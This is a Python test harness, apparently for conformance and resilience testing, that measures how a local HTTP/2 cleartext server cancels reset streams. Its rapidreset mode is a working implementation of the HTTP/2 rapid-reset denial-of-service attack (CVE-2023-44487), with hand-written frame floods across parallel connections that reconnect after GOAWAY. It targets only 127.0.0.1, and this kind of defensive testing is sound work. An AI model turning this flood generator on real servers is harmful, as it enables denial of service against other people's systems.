#!/usr/bin/env python3
"""Measures from outside how a server cancels the work of HTTP/2 streams that are reset, over h2c (HTTP/2 by prior
knowledge, cleartext), and how it stands up to a rapid-reset attack.

Speaks to a server that serves the conformance routes of docs/ConformanceRoutes.md (/hello/, /slow/?ms=N, /stats/)
over h2c on 127.0.0.1. /stats/ is asked over a separate HTTP/1.1 keep-alive connection (--stats h1, the default), or
over a separate h2c connection for a server that speaks nothing else there (--stats h2c).
  latency     N streams on GET /slow/?ms=60000, one at a time: each is reset (RST_STREAM, CANCEL) 20 ms after
              /stats/ shows its handler started (as disconnect_probe.py closes); the time from just before the RST_STREAM is sent (CLOCK_MONOTONIC) to the
              handler's cancellation (/stats/ last_cancel_ns). A new connection every --per-connection streams
              (default 100), under the RST_STREAM rate limit of NIO's HTTP/2 handler (200 in 30 s on a connection).
  wave        N streams on GET /slow/?ms=60000 across C connections (at most 100 each, the usual concurrent-stream
              limit), all started, then all reset at once: one send() per connection; the time from the first
              RST_STREAM sent until the last handler is cancelled.
  rapidreset  N HEADERS+RST_STREAM pairs (the HTTP/2 rapid reset attack, CVE-2023-44487) from C connections at once,
              in batches of B pairs per send(), each batch followed by a PING, at most W batches unacknowledged on a
              connection; a connection that receives GOAWAY (ENHANCE_YOUR_CALM from a server that defends itself)
              is closed and replaced. Counts pairs sent, pairs the server read (acknowledged by its PING ACKs, or up
              to its GOAWAY's last stream id: a lower bound), GOAWAYs by error code. Frames are written by hand here, for speed.
  goaway      N HEADERS+RST_STREAM pairs at once on one connection (past the server's reset limit), then 5 requests
              more as if no GOAWAY had come: the server's GOAWAYs, what it did with the 5, and whether it closed the
              connection itself within 2 s (RFC 9113 5.4.1: after a connection error it MUST).
  hello       GET /hello/ over h2c on one connection, once: checks that the server speaks h2c.
Requests go to 127.0.0.1 only; every loop is bounded in count and time. Needs the PyPI package h2 (4.x).
"""
import argparse
import json
import select
import socket
import statistics
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

HOST = "127.0.0.1"
SLOW = "/slow/?ms=60000"
ERROR_NAMES = {int(code): code.name for code in h2.errors.ErrorCodes}


def monotonic_ns():
    return time.clock_gettime_ns(time.CLOCK_MONOTONIC)  # the clock of the server's last_cancel_ns


def connect(port, timeout):
    s = socket.create_connection((HOST, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


# ---------------------------------------------------------------- an h2c client (the h2 package)


class H2Error(Exception):
    pass


class H2Client:
    """One h2c connection (prior knowledge): the preface and SETTINGS on connect, then streams. `pump` reads what the
    server sent and answers it (SETTINGS and PING acknowledgements, flow control)."""

    def __init__(self, port, timeout=10.0):
        self.sock = connect(port, timeout)
        self.conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.closed = False
        self.goaway = None  # (error code name, last stream id) of a GOAWAY received
        self.settings_seen = False
        self.streams = {}  # stream id -> {"status", "body", "ended", "reset"}
        self.port = port
        self.flush()
        self.wait(lambda: self.settings_seen, timeout)

    def fileno(self):
        return self.sock.fileno()

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def close(self):
        if not self.closed:
            self.closed = True
            self.sock.close()

    def pump(self, timeout):
        """Reads and handles what has arrived within `timeout` s; returns whether anything did."""
        if self.closed:
            return False
        readable, _, _ = select.select([self.sock], [], [], timeout)
        if not readable:
            return False
        try:
            data = self.sock.recv(65536)
        except (ConnectionError, socket.timeout) as error:
            self.close()
            raise H2Error(f"connection lost: {error}") from error
        if not data:
            self.close()
            return True
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError as error:  # e.g. a frame after the server's GOAWAY closed h2's state
            self.close()
            raise H2Error(f"h2: {error}") from error
        for event in events:
            self.handle(event)
        self.flush()
        return True

    def handle(self, event):
        if isinstance(event, h2.events.RemoteSettingsChanged):
            self.settings_seen = True
        elif isinstance(event, h2.events.ResponseReceived):
            self.streams.setdefault(event.stream_id, {})["status"] = int(dict(event.headers)[":status"])
        elif isinstance(event, h2.events.DataReceived):
            stream = self.streams.setdefault(event.stream_id, {})
            stream["body"] = stream.get("body", b"") + event.data
            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamEnded):
            self.streams.setdefault(event.stream_id, {})["ended"] = True
        elif isinstance(event, h2.events.StreamReset):
            self.streams.setdefault(event.stream_id, {})["reset"] = ERROR_NAMES.get(int(event.error_code), event.error_code)
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = (ERROR_NAMES.get(int(event.error_code), str(event.error_code)), event.last_stream_id)

    def wait(self, predicate, timeout):
        deadline = time.monotonic() + timeout
        while not predicate():
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError(f"h2c connection to port {self.port}: no answer within {timeout} s")
            if self.closed:
                raise H2Error(f"the server closed the connection (GOAWAY {self.goaway})")
            self.pump(left)

    @property
    def usable(self):
        return not self.closed and self.goaway is None and self.conn.state_machine.state != h2.connection.ConnectionState.CLOSED

    def start(self, path, method="GET"):
        """Sends a request's HEADERS (END_STREAM) and returns the stream's id."""
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, [(":method", method), (":scheme", "http"), (":authority", f"{HOST}:{self.port}"),
                                           (":path", path)], end_stream=True)
        self.flush()
        return stream_id

    def reset_bytes(self, stream_ids):
        """The RST_STREAM (CANCEL) frames of these streams, as one buffer to send."""
        for stream_id in stream_ids:
            self.conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
        return self.conn.data_to_send()

    def get(self, path, timeout=10.0):
        """(status, body) of one request."""
        stream_id = self.start(path)
        self.wait(lambda: self.streams.get(stream_id, {}).get("ended") or "reset" in self.streams.get(stream_id, {}), timeout)
        stream = self.streams.pop(stream_id)
        if "reset" in stream:
            raise H2Error(f"GET {path}: stream reset by the server ({stream['reset']})")
        return stream.get("status"), stream.get("body", b"")


# ---------------------------------------------------------------- /stats/


def read_http1_response(sock, buffer=b""):
    """(status, body, rest) of one HTTP/1.1 response with a Content-Length, from what `buffer` holds and `sock` sends."""
    while b"\r\n\r\n" not in buffer:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("connection closed before a whole response head")
        buffer += chunk
    head, buffer = buffer.split(b"\r\n\r\n", 1)
    lines = head.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    length = int(headers["content-length"])
    while len(buffer) < length:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("connection closed in the middle of a response body")
        buffer += chunk
    return int(lines[0].split()[1]), buffer[:length], buffer[length:]


class Stats:
    """GET /stats/ as a dict, over its own keep-alive connection (HTTP/1.1 or h2c), made again if the server closed it."""

    def __init__(self, port, protocol="h1"):
        self.port, self.protocol = port, protocol
        self.sock = None
        self.h2 = None

    def close(self):
        if self.sock:
            self.sock.close()
            self.sock = None
        if self.h2:
            self.h2.close()
            self.h2 = None

    def _once(self):
        if self.protocol == "h2c":
            if self.h2 is None or not self.h2.usable:
                self.close()
                self.h2 = H2Client(self.port)
            status, body = self.h2.get("/stats/")
        else:
            if self.sock is None:
                self.sock = connect(self.port, 5.0)
            self.sock.sendall(b"GET /stats/ HTTP/1.1\r\nHost: x\r\n\r\n")
            status, body, _ = read_http1_response(self.sock)
        if status != 200:
            raise H2Error(f"GET /stats/ answered {status}")
        return json.loads(body)

    def __call__(self):
        try:
            return self._once()
        except (OSError, ConnectionError, H2Error, KeyError):
            self.close()  # an idle keep-alive connection the server closed: once more, on a new one
            return self._once()

    def wait_for(self, predicate, timeout=10.0, interval=0.002):
        deadline = time.monotonic() + timeout
        while True:
            current = self()
            if predicate(current):
                return current
            if time.monotonic() > deadline:
                raise TimeoutError(f"server state did not change within {timeout} s: {current}")
            time.sleep(interval)


def percentiles(samples):
    samples = sorted(samples)
    p = lambda q: samples[min(len(samples) - 1, int(q * len(samples)))]
    return {"p50_ms": p(0.5), "p99_ms": p(0.99), "max_ms": samples[-1], "mean_ms": statistics.mean(samples)}


def reasons_delta(before, after):
    """How the server's {reason: count} changed, where it reports them."""
    if "reasons" not in after:
        return None
    old = before.get("reasons", {})
    return {k: v - old.get(k, 0) for k, v in after["reasons"].items() if v != old.get(k, 0)}


# ---------------------------------------------------------------- latency and wave


def latency(port, count, stats_protocol="h1", per_connection=100, settle=0.02, timeout=10.0):
    """RST_STREAM -> cancellation, one stream at a time."""
    stats = Stats(port, stats_protocol)
    first = stats()
    client, on_connection, connections, goaways = None, 0, 0, {}
    samples = []
    try:
        for _ in range(count):
            if client is None or not client.usable or on_connection >= per_connection:
                if client is not None:
                    if client.goaway:
                        goaways[client.goaway[0]] = goaways.get(client.goaway[0], 0) + 1
                    client.close()
                client, on_connection = H2Client(port), 0
                connections += 1
            before = stats()
            stream_id = client.start(SLOW)
            on_connection += 1
            stats.wait_for(lambda st: st["started"] > before["started"], timeout)
            time.sleep(settle)  # as disconnect_probe.py: let the handler reach its sleep
            client.pump(0)
            rst = client.reset_bytes([stream_id])
            sent = monotonic_ns()
            client.sock.sendall(rst)
            # The server records the time itself: polling /stats/ at once would only compete with the cancellation.
            time.sleep(0.005)
            after = stats.wait_for(lambda st: st["cancelled"] > before["cancelled"], timeout)
            samples.append((after["last_cancel_ns"] - sent) / 1e6)
        last = stats()
    finally:
        if client is not None:
            if client.goaway:
                goaways[client.goaway[0]] = goaways.get(client.goaway[0], 0) + 1
            client.close()
        stats.close()
    result = {"count": count, "connections": connections, "goaways": goaways} | percentiles(samples)
    result |= {"samples_ms": samples, "server_stats": last, "server_reasons": reasons_delta(first, last),
               "cancelled": last["cancelled"] - first["cancelled"], "completed": last["completed"] - first["completed"]}
    return result


def wave(port, count, connections, stats_protocol="h1", timeout=30.0):
    """`count` streams across `connections` connections, all started, then all reset at once."""
    stats = Stats(port, stats_protocol)
    before = stats()
    clients = []
    try:
        for _ in range(connections):
            clients.append(H2Client(port))
        limit = min(c.conn.remote_settings.max_concurrent_streams for c in clients)
        if count > limit * connections:
            raise ValueError(f"{count} streams do not fit in {connections} connections of {limit} concurrent streams")
        streams = [[] for _ in clients]
        for i in range(count):
            streams[i % connections].append(clients[i % connections].start(SLOW))
        opened = time.monotonic()
        stats.wait_for(lambda st: st["started"] >= before["started"] + count, timeout, interval=0.01)
        started_in = time.monotonic() - opened
        time.sleep(0.05)  # every handler in its sleep
        for c in clients:
            c.pump(0)
        frames = [c.reset_bytes(ids) for c, ids in zip(clients, streams)]
        first_sent = monotonic_ns()
        for c, data in zip(clients, frames):
            c.sock.sendall(data)
        sent_all = monotonic_ns()
        after = stats.wait_for(lambda st: st["cancelled"] >= before["cancelled"] + count, timeout, interval=0.001)
        seen = monotonic_ns()
        goaways = {}
        for c in clients:
            with_timeout = time.monotonic() + 0.2
            while time.monotonic() < with_timeout and c.pump(0.01):
                pass
            if c.goaway:
                goaways[c.goaway[0]] = goaways.get(c.goaway[0], 0) + 1
    finally:
        for c in clients:
            c.close()
        stats.close()
    return {
        "count": count,
        "connections": connections,
        "streams_per_connection_limit": limit,
        "all_started_after_s": started_in,
        "cancelled": after["cancelled"] - before["cancelled"],
        "completed": after["completed"] - before["completed"],
        "send_all_rst_ms": (sent_all - first_sent) / 1e6,
        "last_cancel_after_first_rst_ms": (after["last_cancel_ns"] - first_sent) / 1e6,  # the server's own clock
        "polled_after_first_rst_ms": (seen - first_sent) / 1e6,  # when /stats/ was seen to have risen by `count`
        "goaways": goaways,
        "server_stats": after,
        "server_reasons": reasons_delta(before, after),
    }


# ---------------------------------------------------------------- rapid reset (hand-written frames)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def header_block(path, authority):
    """GET `path`: HPACK with static-table names and literals never added to the dynamic table, so that the same
    block can be sent any number of times."""
    def literal(index, value):  # literal header field without indexing, indexed name (RFC 7541 6.2.2); short values
        value = value.encode()
        assert len(value) < 127
        return bytes([index]) + bytes([len(value)]) + value

    return b"\x82\x86" + literal(4, path) + literal(1, authority)  # :method GET, :scheme http, :path, :authority


class Attacker:
    """Rapid reset on one connection at a time, replaced when the server sends GOAWAY or closes it. Each batch of
    pairs goes out in one send() followed by a PING; at most `window` batches are unacknowledged at once, so that the
    pairs wait in the server's socket rather than in the kernel's buffers by the megabyte."""

    def __init__(self, port, block, batch, window, budget):
        self.port, self.block, self.batch, self.window, self.budget = port, block, batch, window, budget
        self.sent = 0          # pairs written to a socket
        self.acknowledged = 0  # pairs the server is known to have read: PING-acknowledged, or up to a GOAWAY's last stream
        self.connections = 0
        self.goaways = {}
        self.closed_without_goaway = 0
        self.errors = []

    def run(self, deadline):
        while time.monotonic() < deadline and self.budget.left > 0:
            try:
                self.connection(deadline)
            except OSError as error:
                self.errors.append(f"{type(error).__name__}: {error}")
                if len(self.errors) > 50:
                    return

    def connection(self, deadline):
        s = connect(self.port, 10.0)
        self.connections += 1
        state = {"buffer": b"", "in_flight": [], "acknowledged": 0, "sent": 0, "goaway": None}
        next_stream, ping_number = 1, 0
        s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        try:
            while True:
                # send while the window allows and the budget lasts
                while len(state["in_flight"]) < self.window:
                    take = self.budget.take(self.batch)
                    if not take:
                        break
                    out = bytearray()
                    for _ in range(take):
                        sid = struct.pack(">I", next_stream)
                        out += struct.pack(">I", len(self.block))[1:] + bytes([HEADERS, END_STREAM | END_HEADERS]) + sid + self.block
                        out += b"\x00\x00\x04" + bytes([RST_STREAM, 0]) + sid + struct.pack(">I", CANCEL)
                        next_stream += 2
                    ping_number += 1
                    payload = struct.pack(">Q", ping_number)
                    out += frame(PING, 0, 0, payload)
                    try:
                        s.sendall(out)
                    except (BrokenPipeError, ConnectionResetError):
                        self.budget.give_back(take)  # not sent: another connection sends them
                        self.read(s, state, 0)  # a GOAWAY that came before the close, if it can still be read
                        return self.finish(state, closed=True)
                    state["sent"] += take
                    self.sent += take
                    state["in_flight"].append((payload, state["sent"]))
                if not state["in_flight"]:  # the budget is spent and the server has read every pair sent here
                    return self.finish(state)
                if time.monotonic() > deadline:
                    return self.finish(state)
                outcome = self.read(s, state, 1.0)
                if outcome:
                    return self.finish(state, closed=True)
        finally:
            s.close()

    def read(self, s, state, timeout):
        """Handles what the server sent within `timeout` s: acknowledges SETTINGS and PING, counts PING
        acknowledgements; returns "goaway" or "closed" when the connection is done, else None."""
        if not select.select([s], [], [], timeout)[0]:
            return None
        try:
            chunk = s.recv(65536)
        except ConnectionResetError:
            chunk = b""
        buffer = state["buffer"] + chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags = buffer[3], buffer[4]
            payload = buffer[9:9 + length]
            buffer = buffer[9 + length:]
            try:
                if kind == SETTINGS and not flags & ACK:
                    s.sendall(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    s.sendall(frame(PING, ACK, 0, payload))
            except (BrokenPipeError, ConnectionResetError):
                pass
            if kind == PING and flags & ACK:
                while state["in_flight"]:
                    ping, upto = state["in_flight"].pop(0)
                    state["acknowledged"] = upto
                    if ping == payload:
                        break
            elif kind == GOAWAY:
                last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                code = int.from_bytes(payload[4:8], "big")
                state["goaway"] = ERROR_NAMES.get(code, hex(code))
                state["acknowledged"] = max(state["acknowledged"], min(state["sent"], (last + 1) // 2))
                state["buffer"] = buffer
                return "goaway"
        state["buffer"] = buffer
        return None if chunk else "closed"

    def finish(self, state, closed=False):
        if state["goaway"]:
            self.goaways[state["goaway"]] = self.goaways.get(state["goaway"], 0) + 1
        elif closed:
            self.closed_without_goaway += 1
        self.acknowledged += state["acknowledged"] if closed or state["in_flight"] else state["sent"]


class Budget:
    def __init__(self, total):
        self.left = total
        self.lock = threading.Lock()

    def take(self, n):
        with self.lock:
            n = min(n, self.left)
            self.left -= n
            return n

    def give_back(self, n):
        with self.lock:
            self.left += n


def rapid_reset(port, pairs, connections=4, batch=50, window=4, path=SLOW, time_limit=300.0):
    block = header_block(path, f"{HOST}:{port}")
    budget = Budget(pairs)
    attackers = [Attacker(port, block, batch, window, budget) for _ in range(connections)]
    deadline = time.monotonic() + time_limit
    threads = [threading.Thread(target=a.run, args=(deadline,), daemon=True) for a in attackers]
    started = time.monotonic()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    seconds = time.monotonic() - started
    goaways = {}
    for a in attackers:
        for k, v in a.goaways.items():
            goaways[k] = goaways.get(k, 0) + v
    sent = sum(a.sent for a in attackers)
    return {
        "pairs": pairs,
        "pairs_sent": sent,
        # a lower bound of the pairs the server read: those before a PING it acknowledged, or up to a GOAWAY's last
        # stream (a server that closes at once may never flush the acknowledgements of what it read last)
        "pairs_acknowledged": sum(a.acknowledged for a in attackers),
        "seconds": seconds,
        "pairs_per_s": sent / seconds if seconds else None,
        "parallel_connections": connections,
        "batch": batch,
        "window": window,
        "path": path,
        "connections": sum(a.connections for a in attackers),
        "goaways": goaways,
        "goaway_count": sum(goaways.values()),
        "closed_without_goaway": sum(a.closed_without_goaway for a in attackers),
        "errors": [e for a in attackers for e in a.errors][:10],
        "timed_out": time.monotonic() > deadline,
    }


def goaway_check(port, pairs=250, wait=2.0, path="/hello/"):
    """One connection: `pairs` HEADERS+RST_STREAM pairs at once, then, ignoring any GOAWAY, 5 more requests; how the
    server answered (its GOAWAYs' error codes and last stream ids, what it did with the 5 requests), and whether it
    closed the connection itself within `wait` s, as RFC 9113 5.4.1 has an endpoint do after a connection error."""
    block = header_block(path, f"{HOST}:{port}")
    s = connect(port, 10.0)
    frames, buffer, closed_after = [], b"", None

    def read_until(deadline):
        nonlocal buffer, closed_after
        while closed_after is None:
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([s], [], [], left)[0]:
                return
            try:
                chunk = s.recv(65536)
            except ConnectionResetError:
                chunk = b""
            if not chunk:
                closed_after = time.monotonic()
                return
            buffer += chunk
            while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                length = int.from_bytes(buffer[:3], "big")
                frames.append((buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF, buffer[9:9 + length]))
                buffer = buffer[9 + length:]

    try:
        out = bytearray(PREFACE + frame(SETTINGS, 0, 0))
        for i in range(pairs):
            sid = 2 * i + 1
            out += frame(HEADERS, END_STREAM | END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
        sent = time.monotonic()
        s.sendall(out)
        read_until(sent + 0.5)
        first_goaway = next((f for f in frames if f[0] == GOAWAY), None)
        seen = len(frames)
        later = [2 * (pairs + i) + 1 for i in range(5)]
        with_requests = time.monotonic()
        if closed_after is None:
            try:
                s.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in later))
            except OSError:
                closed_after = time.monotonic()
        read_until(with_requests + wait)
    finally:
        s.close()
    after = frames[seen:]
    goaways = [(ERROR_NAMES.get(int.from_bytes(f[3][4:8], "big"), "?"), int.from_bytes(f[3][:4], "big") & 0x7FFFFFFF)
               for f in frames if f[0] == GOAWAY]
    names = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS", PING: "PING", GOAWAY: "GOAWAY"}
    return {
        "pairs": pairs,
        "goaways": goaways,  # (error code, last stream id)
        "goaway_received": first_goaway is not None,
        "later_requests": {str(sid): sorted({names.get(f[0], str(f[0])) for f in after if f[2] == sid}) for sid in later},
        "closed_by_server": closed_after is not None,
        "closed_after_first_send_ms": (closed_after - sent) * 1e3 if closed_after is not None else None,
        "waited_s": wait,
    }


def fmt_ms(value):
    return "-" if value is None else f"{value:.1f} ms"


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=["latency", "wave", "rapidreset", "goaway", "hello"])
    parser.add_argument("--port", type=int, default=8000)
    parser.add_argument("--count", type=int, default=200, help="latency, wave: streams; rapidreset: pairs")
    parser.add_argument("--connections", type=int, default=None,
                        help="wave: connections (default 10); rapidreset: connections at once (default 4)")
    parser.add_argument("--batch", type=int, default=50, help="rapidreset: pairs per send() (default 50)")
    parser.add_argument("--window", type=int, default=4, help="rapidreset: batches unacknowledged at once (default 4)")
    parser.add_argument("--path", default=SLOW, help=f"rapidreset: the path of each HEADERS (default {SLOW})")
    parser.add_argument("--stats", choices=["h1", "h2c"], default="h1", help="how /stats/ is asked (default h1)")
    parser.add_argument("--json", action="store_true", help="print the result as JSON")
    args = parser.parse_args()
    if args.mode == "latency":
        r = latency(args.port, args.count, args.stats)
        line = (f"RST_STREAM->cancel over {r['count']} streams ({r['connections']} connections): p50 {r['p50_ms']:.3f} ms, "
                f"p99 {r['p99_ms']:.3f} ms, max {r['max_ms']:.3f} ms, mean {r['mean_ms']:.3f} ms; reasons {r['server_reasons']}")
    elif args.mode == "wave":
        r = wave(args.port, args.count, args.connections or 10, args.stats)
        line = (f"wave of {r['count']} streams on {r['connections']} connections: {r['cancelled']} cancelled, the last "
                f"{r['last_cancel_after_first_rst_ms']:.2f} ms after the first RST_STREAM (seen by polling after "
                f"{r['polled_after_first_rst_ms']:.2f} ms); reasons {r['server_reasons']}")
    elif args.mode == "rapidreset":
        r = rapid_reset(args.port, args.count, args.connections or 4, args.batch, args.window, args.path)
        line = (f"{r['pairs_sent']} HEADERS+RST_STREAM pairs in {r['seconds']:.2f} s on {r['connections']} connections, "
                f"{r['pairs_acknowledged']} acknowledged by the server, GOAWAYs {r['goaways']}, closed without GOAWAY {r['closed_without_goaway']}")
    elif args.mode == "goaway":
        r = goaway_check(args.port, args.count)
        line = (f"{r['pairs']} pairs at once: GOAWAYs {r['goaways']}, then 5 more requests got {r['later_requests']}; "
                f"closed by the server: {r['closed_by_server']} ({fmt_ms(r['closed_after_first_send_ms'])})")
    else:
        client = H2Client(args.port)
        status, body = client.get("/hello/")
        client.close()
        r = {"status": status, "body": body.decode(errors="replace")}
        line = f"h2c GET /hello/: {status} {r['body']!r}"
    if args.json:
        r.pop("samples_ms", None)
        print(json.dumps(r))
    else:
        print(line)


if __name__ == "__main__":
    sys.exit(main())
